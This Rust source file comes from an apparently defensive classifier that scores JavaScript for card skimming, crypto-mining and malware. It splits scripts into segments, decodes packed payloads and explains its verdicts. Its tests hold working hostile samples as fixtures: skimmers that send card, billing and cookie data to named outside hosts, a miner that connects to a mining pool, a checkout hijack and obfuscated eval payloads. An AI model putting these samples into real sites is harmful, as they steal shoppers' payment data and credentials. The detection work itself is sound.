//! "Is this script stealing from my customers?": a score on Page Shield's 1–99 scale
//! (1 = certainly malicious), per-category scores, and reasons in words.
//!
//! The whole file is scored, and so is the code *outside* its main body when one top-level
//! statement dominates (a skimmer appended to a library is a few hundred bytes next to 90 KB of
//! jQuery; scored together it would be diluted). The worse of the two is the answer, and the
//! reasons say which part it came from. Code the script decodes from its own constants
//! (`eval(atob("…"))`) is analyzed too, and judged by the written rules (`rules.rs`) only: the
//! model was trained on source files, not on decoded payloads.

use serde::Serialize;

use crate::features::{NGRAM_BUCKETS, SIGNALS};
use crate::model::{HEADS, Model, probability, score, sigmoid};
use crate::rules::{self, Rule};
use crate::unpack::MAX_PAYLOADS;
use crate::{Analysis, Options, analyze};

/// Per-category scores, same scale as the overall score.
#[derive(Debug, Clone, Serialize)]
pub struct Categories {
    pub magecart: u8,
    pub cryptomining: u8,
    pub malware: u8,
}

/// A classifier verdict (SPEC §4 `classify`).
#[derive(Debug, Clone, Serialize)]
pub struct Classification {
    /// 1..99, 1 = certainly malicious.
    pub score: u8,
    /// `score` below 50.
    pub malicious: bool,
    pub categories: Categories,
    /// Plain-words evidence, strongest first.
    pub reasons: Vec<String>,
    /// Probability from the `malicious` head (before mapping to the score).
    pub probability: f32,
    /// Byte range of the part that gave the score when it was not the whole file.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub part: Option<(u32, u32)>,
    /// Version of the model that scored it.
    pub model: String,
}

/// Smallest script whose top-level statements are also scored in segments.
const MIN_SPLIT_BYTES: usize = 4096;
/// Consecutive top-level statements are grouped into segments of about this size: small
/// enough that an appended skimmer dominates its segment, large enough to keep the number of
/// extra analyses (and chances of a false positive) low.
const SEGMENT_BYTES: u32 = 8 * 1024;
/// Segments covering more than this share of the file are not scored again (the whole-file
/// score already covers them).
const MAX_SEGMENT_SHARE: f64 = 0.5;
/// Largest segment made of declarations and the code after them (see [`views`]).
const MAX_MERGED_BYTES: u32 = 2 * SEGMENT_BYTES;
/// Smallest segment worth scoring.
const MIN_PART_BYTES: usize = 64;
/// Contribution (log-odds) a signal needs to be named as a reason.
const REASON_MIN: f32 = 0.1;
/// Index of the `parse_errors` signal (its reason is replaced by the error count).
const PARSE_ERRORS: usize = 54;
/// Clean verdicts scoring below this name their weak signals.
const WEAK_SIGNALS_BELOW: u8 = 80;
/// Signals that shape the score but say nothing a person can act on (size, layout).
const NOT_EVIDENCE: &[&str] = &[
    "size",
    "nodes",
    "strings_per_node",
    "string_len_mean",
    "short_names",
    "name_len",
    "line_mean",
    "lines",
    "whitespace",
    "comments",
    "globals",
];

/// Layers of decoding followed (`eval(atob(…))` whose payload decodes again).
const MAX_DECODE_DEPTH: usize = 3;

/// One scored view of a script: the whole file, a segment of its top-level statements, or
/// code it decodes at run time.
pub struct View {
    /// Byte range of the segment; `None` for the whole file and decoded code.
    pub part: Option<(u32, u32)>,
    /// Layers of decoding that produced this code (0: the source itself). Decoded views are
    /// judged by the rules only.
    pub decoded: usize,
    /// The written rule this view matches, if any.
    pub rule: Option<Rule>,
    pub analysis: Analysis,
}

impl View {
    /// Judged by the written rules alone: decoded code, and code that does nothing when it
    /// runs (a file of SVG path constants cannot act, however unusual its strings look).
    pub fn rules_only(&self) -> bool {
        self.decoded > 0 || self.inert()
    }

    /// Parses cleanly and only declares values. Code with parse errors is never inert: its
    /// tree is partial (a JScript dropper's `@cc_on`, markup the extractor left in), so what
    /// it does is unknown.
    pub fn inert(&self) -> bool {
        !self.analysis.acts && self.analysis.parse_error_count == 0
    }

    fn new(part: Option<(u32, u32)>, decoded: usize, analysis: Analysis) -> Self {
        Self {
            part,
            decoded,
            rule: rules::matching(&analysis),
            analysis,
        }
    }
}

/// The views `classify` scores: the whole file first, then segments of consecutive top-level
/// statements (a skimmer appended to a library is a few hundred bytes next to 90 KB of jQuery;
/// scored only with it, it would be diluted). Views do not depend on the model, so training
/// computes them once.
pub fn views(source: &str, options: &Options) -> Vec<View> {
    let options = Options {
        features: true,
        ..options.clone()
    };
    let whole = analyze(source, &options);
    let mut out = Vec::new();
    // A segment that only declares values (three.js's constant tables, a compiler's
    // HTML-entity map) does nothing by itself: scored alone, such tables looked like packed
    // payloads to the trees. It is not a view; it is read again with the segment right after
    // it, which is where an obfuscated skimmer's string table finds the code that indexes it.
    let mut pending: Option<(u32, u32)> = None;
    for (start, end) in segments(source, &whole) {
        let from = match pending.take() {
            Some((s, e))
                if end.checked_sub(s).is_some_and(|n| n <= MAX_MERGED_BYTES)
                    && source
                        .get(e as usize..start as usize)
                        .is_some_and(|gap| gap.trim().trim_matches(';').trim().is_empty()) =>
            {
                s
            }
            _ => start,
        };
        let Some(text) = source.get(from as usize..end as usize) else {
            continue;
        };
        let analysis = analyze(text, &options);
        if analysis.acts {
            out.push(View::new(Some((from, end)), 0, analysis));
        } else {
            pending = Some((from, end));
        }
    }
    // Decoded code, breadth first: the whole file's payloads, then theirs.
    let mut queue: std::collections::VecDeque<(usize, String)> =
        whole.payloads.iter().map(|p| (1, p.clone())).collect();
    let mut decoded = 0;
    while let Some((depth, text)) = queue.pop_front() {
        if decoded == MAX_PAYLOADS {
            break;
        }
        decoded += 1;
        let analysis = analyze(&text, &options);
        if depth < MAX_DECODE_DEPTH {
            queue.extend(analysis.payloads.iter().map(|p| (depth + 1, p.clone())));
        }
        out.push(View::new(None, depth, analysis));
    }
    out.insert(0, View::new(None, 0, whole));
    out
}

/// Byte ranges of the segments worth scoring on their own.
fn segments(source: &str, a: &Analysis) -> Vec<(u32, u32)> {
    if source.len() < MIN_SPLIT_BYTES {
        return Vec::new();
    }
    // Regions are in pre-order: one starting at or after the end of the last top-level region
    // is itself top-level.
    let mut top = Vec::new();
    let mut end = 0u32;
    for r in &a.regions {
        if r.start >= end && r.end > r.start {
            top.push((r.start, r.end));
            end = r.end;
        }
    }
    if top.len() < 2 {
        return Vec::new();
    }
    // (start, end, open): a statement over half a segment stands alone and takes no
    // neighbours, so code appended to a big library body gets a segment of its own.
    let mut grouped: Vec<(u32, u32, bool)> = Vec::new();
    for (s, e) in top {
        let big = e - s > SEGMENT_BYTES / 2;
        match grouped.last_mut() {
            Some(last) if !big && last.2 && e - last.0 <= SEGMENT_BYTES => last.1 = e,
            _ => grouped.push((s, e, !big)),
        }
    }
    let limit = MAX_SEGMENT_SHARE * source.len() as f64;
    grouped
        .into_iter()
        .map(|(s, e, _)| (s, e))
        .filter(|(s, e)| f64::from(e - s) <= limit && (e - s) as usize >= MIN_PART_BYTES)
        .collect()
}

/// Classifies one script with `model` (usually [`Model::embedded`]).
pub fn classify(source: &str, options: &Options, model: &Model) -> Classification {
    classify_views(&views(source, options), model)
}

/// The verdict of the worst view; when that is a segment, the reasons say which.
pub fn classify_views(views: &[View], model: &Model) -> Classification {
    let mut best: Option<Classification> = None;
    for view in views {
        let mut v = verdict(view, model);
        if view.decoded > 0 {
            v.reasons.insert(
                0,
                format!(
                    "code the script decodes at run time ({} bytes, {} layer{} deep) scores {} on its own",
                    view.analysis.bytes,
                    view.decoded,
                    if view.decoded == 1 { "" } else { "s" },
                    v.score
                ),
            );
        } else if let Some((start, end)) = view.part {
            v.part = Some((start, end));
            v.reasons.insert(
                0,
                format!(
                    "top-level code at offsets {start}..{end} ({} bytes) scores {} on its own",
                    end - start,
                    v.score
                ),
            );
        }
        if best.as_ref().is_none_or(|b| v.probability > b.probability) {
            best = Some(v);
        }
    }
    best.unwrap_or_else(|| {
        let refused = View::new(None, 0, Analysis::refused("", "nothing to classify".into()));
        verdict(&refused, model)
    })
}

/// The model's probability that a feature vector is malicious (rules not included).
pub fn malicious_probability(model: &Model, features: &[f32]) -> f32 {
    if features.is_empty() {
        return 0.0;
    }
    sigmoid(model.malicious_logit(features))
}

/// Probability a rule match asserts: just over the strictest threshold `threshold_for` can
/// pick, so a rule match is always flagged.
pub const RULE_PROBABILITY: f32 = 0.9999;

/// What a view scores: the model's probability raised by a rule match. `rules_only` views —
/// decoded code (the model was trained on source files) and code that does nothing when it
/// runs — score by their rule alone. Training and evaluation use this too, so thresholds
/// account for the rules.
pub fn view_probability(model: &Model, features: &[f32], rules_only: bool, rule: bool) -> f32 {
    let p = if rules_only {
        0.0
    } else {
        malicious_probability(model, features)
    };
    if rule { p.max(RULE_PROBABILITY) } else { p }
}

/// Scores one view (the features must have been computed).
fn verdict(view: &View, model: &Model) -> Classification {
    let a = &view.analysis;
    if a.features.is_empty() {
        // Refused input (too big, too deep): no evidence either way; say so.
        return Classification {
            score: 50,
            malicious: false,
            categories: Categories {
                magecart: 50,
                cryptomining: 50,
                malware: 50,
            },
            reasons: a
                .parse_errors
                .iter()
                .map(|e| format!("not analyzed: {e}"))
                .collect(),
            probability: 0.0,
            part: None,
            model: model.version.clone(),
        };
    }
    let z = model.standardize(&a.features);
    let p = view_probability(model, &a.features, view.rules_only(), view.rule.is_some());
    let t = model.threshold;
    let names = &HEADS[1..];
    let shares: Vec<f32> = names
        .iter()
        .map(|c| probability(model.head(c), &z))
        .collect();
    // The most likely category carries the overall probability; the others in proportion.
    let top = shares.iter().copied().fold(f32::MIN_POSITIVE, f32::max);
    let cat = |i: usize| {
        // A rule speaks for its own category.
        let own = view.rule.is_some_and(|r| r.category() == names[i]);
        score(if own { p } else { p * shares[i] / top }, t)
    };
    let categories = Categories {
        magecart: cat(0),
        cryptomining: cat(1),
        malware: cat(2),
    };
    let s = score(p, t);
    Classification {
        score: s,
        malicious: s < 50,
        reasons: {
            let mut r = reasons(
                a,
                &model.malicious_contributions(&a.features),
                s,
                &categories,
            );
            if let Some(rule) = view.rule {
                let domains: Vec<&str> = a.domains.iter().map(String::as_str).take(3).collect();
                r.insert(usize::from(s < 50), rule.reason(&domains));
            } else if view.decoded == 0 && view.inert() {
                r.insert(
                    0,
                    "it only declares values (no call, assignment or import): nothing in it runs on its own".into(),
                );
            }
            r
        },
        categories,
        probability: p,
        part: None,
        model: model.version.clone(),
    }
}

/// Reasons from the `malicious` head's per-feature contributions: the named signals that are
/// present and push towards malicious, with the analysis's specifics (flows, domains) spelled
/// out; the hashed syntax and name blocks are summarized as a resemblance.
fn reasons(a: &Analysis, contributions: &[f32], score: u8, c: &Categories) -> Vec<String> {
    let malicious = score < 50;
    let contribution = |i: usize| contributions[i];
    let mut named: Vec<(f32, usize)> = (0..SIGNALS.len())
        .filter(|&i| a.features[i] > 0.0 && !NOT_EVIDENCE.contains(&SIGNALS[i].0))
        .map(|i| (contribution(i), i))
        .filter(|(c, _)| *c > REASON_MIN)
        .collect();
    named.sort_by(|x, y| y.0.total_cmp(&x.0).then(x.1.cmp(&y.1)));
    let mut out = Vec::new();
    if malicious {
        let (name, s) = [
            ("Magecart skimming", c.magecart),
            ("crypto-mining", c.cryptomining),
            ("other malware", c.malware),
        ]
        .into_iter()
        .min_by_key(|(_, s)| *s)
        .expect("three categories");
        out.push(format!("most like {name} (category score {s})"));
    }
    // A clean verdict lists weak signals only when it is not clearly clean.
    let shown = if malicious {
        6
    } else if score < WEAK_SIGNALS_BELOW {
        3
    } else {
        0
    };
    for (_, i) in named.iter().take(shown) {
        let (id, words) = SIGNALS[*i];
        let text = match id {
            "flow:any" | "flow:form" | "flow:cookie" | "flow:storage" if !a.flows.is_empty() => {
                let flows: Vec<&str> = a.flows.iter().map(String::as_str).take(4).collect();
                format!("{words}: {}", flows.join(", "))
            }
            "domains" | "url_literals" if !a.domains.is_empty() => {
                let d: Vec<&str> = a.domains.iter().map(String::as_str).take(5).collect();
                format!("{words}: {}", d.join(", "))
            }
            _ => words.to_string(),
        };
        if !out.contains(&text) {
            out.push(if malicious {
                text
            } else {
                format!("weak signal: {text}")
            });
        }
    }
    let block = |range: std::ops::Range<usize>| -> f32 {
        range.map(contribution).filter(|c| *c > 0.0).sum()
    };
    let syntax = block(SIGNALS.len()..SIGNALS.len() + NGRAM_BUCKETS);
    let names = block(SIGNALS.len() + NGRAM_BUCKETS..contributions.len());
    if malicious && syntax > 1.0 {
        out.push("its syntax patterns resemble known malicious samples".into());
    }
    if malicious && names > 1.0 {
        out.push("it uses property and global names typical of known malicious samples".into());
    }
    if !malicious && out.is_empty() {
        out.push("no signal of skimming, mining or malware".into());
    }
    if !a.parse_errors.is_empty() {
        let partial = format!(
            "{} parse errors: the analysis is partial",
            a.parse_error_count
        );
        match out.iter().position(|r| r == SIGNALS[PARSE_ERRORS].1) {
            Some(i) => out[i] = partial,
            None => out.push(partial),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reason_constants_name_real_signals() {
        assert_eq!(SIGNALS[PARSE_ERRORS].0, "parse_errors");
        for id in NOT_EVIDENCE {
            assert!(SIGNALS.iter().any(|(n, _)| n == id), "{id}");
        }
    }

    #[test]
    fn small_scripts_are_one_view_and_libraries_with_appended_code_are_segmented() {
        assert_eq!(views("var a = 1;", &Options::default()).len(), 1);
        let library = format!(
            "(function(){{{}}})();",
            "var x = [1, 2, 3].map(function (v) { return v * 2; });\n".repeat(400)
        );
        let appended = format!(
            "{library}\nvar y = document.querySelector('#card');\nfunction later() {{ return y.value + window.location.href; }}\n"
        );
        let v = views(&appended, &Options::default());
        assert_eq!(v.len(), 2, "the whole file and the appended segment");
        let (start, end) = v[1].part.unwrap();
        assert!(appended[start as usize..end as usize].starts_with("var y"));
    }

    /// A table of constants after a library is not a view (it cannot act); the same table
    /// with one assignment is.
    #[test]
    fn segments_that_only_declare_values_are_not_scored() {
        let library = format!(
            "(function(){{{}}})();",
            "var x = [1, 2, 3].map(function (v) { return v * 2; });\n".repeat(400)
        );
        let table: String = (0..200)
            .map(|i| format!("const K{i} = \"\\u00{:02x}\";\n", 0xa0 + i % 90))
            .collect();
        assert_eq!(
            views(&format!("{library}\n{table}"), &Options::default()).len(),
            1
        );
        // A string table over half a segment stands alone; it is read again with the code that
        // indexes it (an obfuscated skimmer's usual layout), as one view.
        let strings: String = (0..300)
            .map(|i| {
                format!(
                    "\"\\x{:02x}\\x{:02x}part{i}\",",
                    0x61 + i % 26,
                    0x62 + i % 20
                )
            })
            .collect();
        let packed = format!(
            "{library}\nvar _0xab = [{strings}\"https://x.example.org/c\"];\nnew Image().src = _0xab[300] + \"?c=\" + encodeURIComponent(document.cookie) + \"&u=\" + encodeURIComponent(location.href);\n"
        );
        let v = views(&packed, &Options::default());
        assert_eq!(v.len(), 2, "the whole file and table + code");
        let (start, _) = v[1].part.unwrap();
        assert!(packed[start as usize..].starts_with("var _0xab"));
        assert_eq!(v[1].rule, Some(Rule::CookieExfil));
        let acting = format!("{library}\n{table}document.forms[0].action = K1;\n");
        let v = views(&acting, &Options::default());
        assert_eq!(v.len(), 2, "the whole file and the table that now assigns");
        assert!(v[1].analysis.acts);
    }

    /// A whole file that only declares values scores by the rules alone; JScript's
    /// conditional compilation (code in a `/*@cc_on … @*/` comment) and unparsable code are
    /// never taken for inert.
    #[test]
    fn inert_files_score_clean_but_hidden_or_broken_code_does_not_count_as_inert() {
        let icons: String = (0..300)
            .map(|i| {
                format!(
                    "export var mdiIcon{i} = \"M{i} 2H{}V{}L{}\";\n",
                    i * 3,
                    i + 7,
                    i * 11
                )
            })
            .collect();
        let v = views(&icons, &Options::default());
        assert!(v[0].inert() && v[0].rules_only());
        let c = classify_views(&v, Model::embedded());
        assert_eq!((c.score, c.malicious), (99, false), "{c:?}");
        assert!(c.reasons[0].starts_with("it only declares values"), "{c:?}");

        let jscript = "/*@cc_on\n var s = 'x'; if (1) eval(s.split('').reverse().join(''));\n@*/";
        assert!(!views(jscript, &Options::default())[0].inert());
        let broken = "var a = \"unterminated;\nvar b = 1;";
        assert!(!views(broken, &Options::default())[0].inert());
        assert!(!views("var a = f();", &Options::default())[0].inert());
    }

    /// A checkout-gated skimmer hidden behind `eval(atob(…))`: only its decoded view shows the
    /// pattern, and the verdict says so. The same code in clear matches the rule directly.
    #[test]
    fn decoded_payloads_are_views_and_a_checkout_gate_is_a_skimmer() {
        use base64::Engine;
        let skimmer = r#"
            if (/onepage|checkout/.test(window.location.href)) {
                var s = document.createElement('script');
                s.src = 'https://g-analytics-cdn.com/loader.js';
                document.head.appendChild(s);
                setInterval(function () {
                    var d = document.querySelector('#billing').value;
                    navigator.sendBeacon('https://g-analytics-cdn.com/c', d);
                }, 500);
            }"#;
        let clear = views(skimmer, &Options::default());
        assert_eq!(clear[0].rule, Some(Rule::CheckoutGate));
        let b64 = base64::engine::general_purpose::STANDARD.encode(skimmer);
        let packed = format!("var k = 1;\neval(atob('{b64}'));\n");
        let v = views(&packed, &Options::default());
        assert_eq!(v.len(), 2, "the file and its decoded payload");
        assert_eq!((v[0].rule, v[1].decoded), (None, 1));
        assert_eq!(v[1].rule, Some(Rule::CheckoutGate));
        let c = classify_views(&v, Model::embedded());
        assert!(c.malicious, "{c:?}");
        assert!(c.categories.magecart < 50, "{c:?}");
        assert!(c.reasons[0].starts_with("code the script decodes at run time"));
        assert!(
            c.reasons
                .iter()
                .any(|r| r.contains("checkout") && r.contains("g-analytics-cdn.com")),
            "{:?}",
            c.reasons
        );
        // A route table naming the checkout is not a gate.
        let router = "var routes = {checkout: '/checkout', cart: '/cart'}; if (location.hash) { fetch('https://api.shop.example/' + routes.checkout); }";
        assert_eq!(views(router, &Options::default())[0].rule, None);
    }

    /// Hostile packing cannot make the views grow without bound: payloads nest at most
    /// `MAX_DECODE_DEPTH` layers and at most `MAX_PAYLOADS` decoded views are analyzed.
    #[test]
    fn decoding_is_bounded_in_depth_and_count() {
        use base64::Engine;
        let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
        let mut code = "document.cookie = 'x=1; path=/'; fetch('https://a.example/');".to_string();
        for _ in 0..10 {
            code = format!("eval(atob('{}'));", b64(&code));
        }
        let v = views(&code, &Options::default());
        let deepest = v.iter().map(|v| v.decoded).max().unwrap_or(0);
        assert_eq!(deepest, MAX_DECODE_DEPTH, "{} views", v.len());
        let wide: String = (0..40)
            .map(|i| {
                format!(
                    "eval(atob('{}'));\n",
                    b64(&format!(
                        "var v{i} = eval(atob('{}'));",
                        b64("var q = document.cookie + location.href;")
                    ))
                )
            })
            .collect();
        let v = views(&wide, &Options::default());
        assert!(
            v.iter().filter(|v| v.decoded > 0).count() <= MAX_PAYLOADS,
            "{}",
            v.len()
        );
    }

    #[test]
    fn card_fields_posted_to_a_named_domain_are_a_skimmer() {
        let skimmer = "jQuery(document).ready(function () { setInterval(function () { var n = jQuery('#cc_number').val(); if (n) { $.post('https://jquery-cdn.top/g', {n: n, cvv: jQuery('#cvv').val()}); } }, 1000); });";
        assert_eq!(
            views(skimmer, &Options::default())[0].rule,
            Some(Rule::PaymentExfil)
        );
        // The same reads posted nowhere named are left to the model.
        let local = skimmer.replace("https://jquery-cdn.top/g", "/cart/update");
        assert_eq!(views(&local, &Options::default())[0].rule, None);
    }

    #[test]
    fn a_miner_pattern_is_named_as_mining() {
        let miner = "var threads = navigator.hardwareConcurrency; var w = new Worker('cryptonight.js'); var ws = new WebSocket('wss://pool.minexmr.com:4444'); ws.onmessage = function (m) { w.postMessage({job_id: m.data, throttle: 0.2, hashes: 0}); };";
        let v = views(miner, &Options::default());
        assert_eq!(v[0].rule, Some(Rule::Miner));
        let c = classify_views(&v, Model::embedded());
        assert!(c.malicious && c.categories.cryptomining < 50, "{c:?}");
        assert!(
            c.reasons
                .iter()
                .any(|r| r.starts_with("crypto-miner pattern"))
        );
    }

    /// Written in the style of real cases (not copied): each rule fires on its pattern and
    /// not on the benign look-alike next to it.
    #[test]
    fn cookie_stealers_checkout_hijacks_and_run_time_decoded_eval_are_named() {
        let rule = |src: &str| views(src, &Options::default())[0].rule;
        let stealer = "(new Image()).src = 'http://stats-cdn.example.org/c.php?u=' + escape(document.location.href) + '&c=' + escape(document.cookie);";
        assert_eq!(rule(stealer), Some(Rule::CookieExfil));
        // Reading a cookie to decide something, and a pixel without it, are not stealing.
        let consent = "if (document.cookie.indexOf('consent=1') < 0) { (new Image()).src = 'https://pixel.example.org/p.gif?v=1'; }";
        assert_eq!(rule(consent), None);

        let hijack = r##"jQuery(function () { jQuery("#onestepcheckout-place-order").attr("onclick", "pay_now();"); });
            function pay_now() { location.href = "https://paypal-secure.example.net/?d=" + btoa(location.host); }"##;
        assert_eq!(rule(hijack), Some(Rule::CheckoutHijack));
        let tooltip = r##"jQuery("#onestepcheckout-place-order").attr("title", "Place order"); location.href = "https://shop.example.net/thanks";"##;
        assert_eq!(rule(tooltip), None);

        let packed = r#"this["eval"]("Ez}zEz|Ez{zqrspostdatafromformsq:;<=>?@ABCDEFG".replace(/./g, function (c) { return String.fromCharCode(c.charCodeAt(0) - 1); }));"#;
        assert_eq!(rule(packed), Some(Rule::DecodedEval));
        let split = r#"var parts = "alpha,beta,gamma,delta,epsilon,zeta,eta,theta,iota".split(","); setTimeout(function () { render(parts); }, 10);"#;
        assert_eq!(rule(split), None);
        let shifted = r#"var s = "=tdsjqu!tsd>#iuuqt;00fybnqmf/psh0b/kt#?=0tdsjqu?", m = ""; for (var i = 0; i < s.length; i++) { m += String.fromCharCode(s.charCodeAt(i) - 1); } document.write(m);"#;
        assert_eq!(rule(shifted), Some(Rule::DecodedEval));
        let upper = r#"function up(s) { var m = ""; for (var i = 0; i < s.length; i++) { m += String.fromCharCode(s.charCodeAt(i) - 32); } return m; }"#;
        assert_eq!(rule(upper), None);
        let c = classify_views(&views(packed, &Options::default()), Model::embedded());
        assert!(c.malicious, "{c:?}");
        assert!(c.reasons.iter().any(|r| r.starts_with("packed code")));
    }
}
